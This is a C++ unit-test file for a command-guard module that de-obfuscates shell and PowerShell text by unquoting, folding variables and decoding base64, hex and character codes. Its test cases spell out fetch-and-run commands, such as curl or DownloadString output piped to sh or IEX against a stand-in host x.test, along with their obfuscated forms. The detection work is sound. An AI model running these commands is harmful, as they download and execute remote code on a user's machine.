// SPDX-License-Identifier: GPL-3.0-or-later
#include "core/guard/CommandViews.h"
#include "core/guard/PayloadDecoding.h"

#include <gtest/gtest.h>

#include <string>
#include <tuple>
#include <utility>
#include <vector>

namespace tessaril {
namespace {

using Cases = std::vector<std::pair<std::string, std::string>>;
using namespace command_views;

TEST(CommandViews, WordsUnquoted) {
    const Cases cases = {
        {R"(c"u"rl -s x | s"h")", "curl -s x | sh"},
        {"c'u'rl x | ba''sh", "curl x | bash"},
        {R"(curl x | "bash")", "curl x | bash"},
        {R"(c\url x | b\ash)", "curl x | bash"},
        {"c^m^d /c p^ow^ershell", "cmd /c powershell"},
        {"I`E`X (N`ew-Ob`ject x)", "IEX (New-Object x)"},
        // Quotes around blanks or metacharacters stay, so benign text does not turn risky, but what
        // they hold is still read as the inner shell would.
        {R"(grep "curl | bash" notes.txt)", R"(grep "curl | bash" notes.txt)"},
        {R"(bash -c "c'u'rl x | s'h'")", R"(bash -c "curl x | sh")"},
        {R"x(echo "$(c\url x)")x", R"x(echo "$(curl x)")x"},
        // Escaped quotes are characters, not quoting.
        {R"(echo \"c\"url)", R"(echo \"c\"url)"},
        {R"(echo "a \"b\" c")", R"(echo "a \"b\" c")"},
        // An unbalanced quote is kept and the rest still read.
        {R"(echo "c'u'rl)", R"(echo "curl)"},
        {"echo 'x", "echo 'x"},
        // A stray quote between letters is taken out too; one before or after a word stays.
        {"x | b'a's'h", "x | bash"},
        {R"(c"ur"l -s x | s'h)", "curl -s x | sh"},
        // Where backslashes separate Windows paths, they are not escapes.
        {R"(copy C:\Users\me\notes.txt \\nas\backup\)", R"(copy C:\Users\me\notes.txt \\nas\backup\)"},
        // A backslash and a line break vanish inside a word; between words, in single quotes and as
        // PowerShell's backquote they are a blank.
        {"cu\\\nrl x | s\\\r\nh", "curl x | sh"},
        {"curl \\\n-s x 'a\\\nb' c`\nd", "curl  -s x 'a b' c d"},
    };
    for (const auto& [text, expected] : cases)
        EXPECT_EQ(unquotedWords(text), expected) << text;
}

TEST(CommandViews, AssignmentsFolded) {
    const Cases cases = {
        {"a=cu;b=rl;$a$b -s x | sh", "a=cu;b=rl;curl -s x | sh"},
        {"x=ba;y=sh;curl x | ${x}${y}", "x=ba;y=sh;curl x | bash"},
        // Defaults of unset variables, and a set one's value over its default.
        {"${a:-cu}${b-rl} x | ${c:=ba}sh; $c", "curl x | bash; ba"},
        {"a=z;${a:-ba}sh ${d:-$e} ${f:-x y}", "a=z;zsh ${d:-$e} ${f:-x y}"},
        {"a=\"cu\"\nb='rl'\n$a$b x", "a=cu\nb=rl\ncurl x"},
        {"$a='i';$b='ex';&($a+$b)", "$a=i;$b=ex;&(iex)"},
        {".('i'+'e'+'x') (x)", ".(iex) (x)"},
        {"$m = 'Down' + 'loadString'; (New-Object Net.WebClient).$m('u')",
         "$m = DownloadString; (New-Object Net.WebClient).DownloadString(u)"},
        // Environment variables, and the quoted script of a shell's -c, /c or -Command.
        {"$env:x='ie'+'x';&$env:x (u)", "$env:x=iex;&iex (u)"},
        {"powershell -c \"$x='ie'+'x';&$x (u)\"", "powershell -c \"$x=iex;&iex (u)\""},
        {"cmd /c \"set a=cu&& %a%rl x\"", "cmd /c \"set a=cu&& curl x\""},
        {"echo \"a=b\"; $a; $env:path", "echo a=b; $a; $env:path"},
        // Aliases used as commands, and commands named with their system directory.
        {"alias g='curl -s'\ng x | g", "alias g='curl -s'\ncurl -s x | curl -s"},
        {"echo g; /usr/bin/env bash /bin/x", "echo g; env bash /bin/x"},
        {"C:\\Windows\\System32\\cmd.exe /c x", "cmd.exe /c x"},
        // Unknown variables, assignments that are arguments and comparisons stay as they are.
        {"echo $HOME $a", "echo $HOME $a"},
        {"echo a=b; $a", "echo a=b; $a"},
        {"if ($a == 'x') { $a }", "if ($a == x) { $a }"},
        {"echo 'it' + 's", "echo it + 's"},
        // cmd: names ignore case, the value runs to the command's end.
        {"set a=cu&& set \"B=rl\"&& %a%%b% x", "set a=cu&& set B=rl&& curl x"},
        {"echo %PATH% %a%", "echo %PATH% %a%"},
    };
    for (const auto& [text, expected] : cases)
        EXPECT_EQ(foldedAssignments(text, 4096), expected) << text;
    // Substitution that would grow past the budget stops there, on a character boundary.
    const std::string bomb = "a=" + std::string(100, 'x') + "\xC3\xA9;" + std::string(200, ' ') + "$a$a$a$a$a$a$a$a";
    EXPECT_LE(foldedAssignments(bomb, 500).size(), 500U);
    EXPECT_EQ(foldedAssignments("a=\xC3\xA9\xC3\xA9;$a$a", 10), "a=\xC3\xA9\xC3\xA9;\xC3\xA9");
}

// Each decoder finds its payloads and turns away binary, hashes, short runs and ordinary numbers.
TEST(CommandViews, PayloadsDecoded) {
    using Decoder = std::string (*)(std::string_view);
    const std::vector<std::tuple<Decoder, std::string, std::string>> cases = {
        {payload_decoding::base64, "echo Y3VybCAtcyBodHRwOi8veC50ZXN0L2kgfCBzaA== | base64 -d | sh",
         "curl -s http://x.test/i | sh"},
        {payload_decoding::base64, "echo Y3VybCAtcyBodHRwOi8veC50ZXN0L2kgfCBzaA | base64 -d",
         "curl -s http://x.test/i | sh"},
        {payload_decoding::base64, "powershell -enc aQBlAHgAIAAkAHgA", "iex $x"},
        {payload_decoding::base64, "echo ZWNobyBjYWbDqSBvaw== | base64 -d", "echo caf\xC3\xA9 ok"},
        {payload_decoding::base64, "a YWJjZGVmZ2hpamtsbW5vcA== b cXJzdHV2d3h5ejAxMjM0NTY3",
         "abcdefghijklmnop\nqrstuvwxyz01234567"},
        {payload_decoding::base64, "echo AAECAwQFBgcICQoLDA0ODxAREhMUFRYX | base64 -d", ""},
        {payload_decoding::base64, "sha256 e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855", ""},
        {payload_decoding::base64, "echo aGVsbG8= | base64 -d", ""},
        {payload_decoding::base64, "ls /usr/local/share/applications/", ""},
        {payload_decoding::hex, R"(printf '\x63\x75\x72\x6c x')", "printf 'curl x'"},
        {payload_decoding::hex, "echo 6375726c202d7320782e74657374 | xxd -r -p", "curl -s x.test"},
        {payload_decoding::hex, R"(echo -e '\x00\x01\x02\x03')", ""},
        {payload_decoding::hex, "git show e3b0c44298fc1c149afbf4c8996fb92427ae41e4", ""},
        {payload_decoding::characterCodes, "iex ([char]105+[char]119+[char]114+[Char]0x20)", "iwr"},
        {payload_decoding::characterCodes, "-join [char[]](105, 101, 120)", ""},
        {payload_decoding::characterCodes, "-join [char[]](99,117,114,108)", "curl"},
        {payload_decoding::characterCodes, "perl -e 'print chr(99).chr(117).chr(114).chr(108)'", "curl"},
        {payload_decoding::characterCodes, "String.fromCharCode(0x63,0x75,0x72,0x6c)", "curl"},
        {payload_decoding::characterCodes, "ports 80, 443, 8080, 8443 and 10.0.0.1", ""},
        {payload_decoding::characterCodes, "seq 1 2 3 4 5 6", ""},
    };
    for (const auto& [decode, text, expected] : cases)
        EXPECT_EQ(decode(text), expected) << text;
}

TEST(CommandViews, DeriveKeepsDistinctViewsWithinBudget) {
    // Base64 of base64 of base64 of "curl -s http://x.test/i | sh": decoded twice, never a third time.
    const std::string nested =
        "echo ZWNobyBaV05vYnlCWk0xWjVZa05CZEdONVFtOWtTRkozVDJrNGRtVkROVEJhV0U0d1RESnJaMlpEUW5waFFUMDlJSHdnWW1GelpUWTB"
        "JQzFrSUh3Z2MyZz0gfCBiYXNlNjQgLWQgfCBzaA== | base64 -d | sh";
    const std::vector<std::pair<std::string, std::vector<std::string>>> cases = {
        {"ls -la ~/src", {}},
        {R"(grep "curl | bash" notes.txt)", {}},
        {R"(c"u"rl x)", {"unquoted"}},
        {"a=cu;$a x", {"folded"}},
        {"powershell -enc YwAiAHUAIgByAGwAIAB4AA==", {"base64", "base64/unquoted"}},
        {nested, {"base64", "base64/base64"}},
    };
    for (const auto& [text, origins] : cases) {
        std::vector<std::string> found;
        for (const auto& view : derive(text, text, 4096)) {
            found.push_back(view.origin);
            EXPECT_EQ(view.text.find("curl -s http://x.test/i | sh"), std::string::npos) << view.origin;
        }
        EXPECT_EQ(found, origins) << text;
    }
    // Views together stay within the budget: here the first takes it all.
    const std::string longCommand = R"(c"u"rl a=b;$a )" + std::string(300, 'x');
    const auto cut = derive(longCommand, longCommand, 100);
    ASSERT_EQ(cut.size(), 1U);
    EXPECT_EQ(cut[0].text, "curl a=b;$a " + std::string(88, 'x'));
    EXPECT_EQ(description("base64/hex/unquoted"),
              "decoded from base64, then decoded from hex, then with quotes and escapes taken out of its words");
}

}  // namespace
}  // namespace tessaril
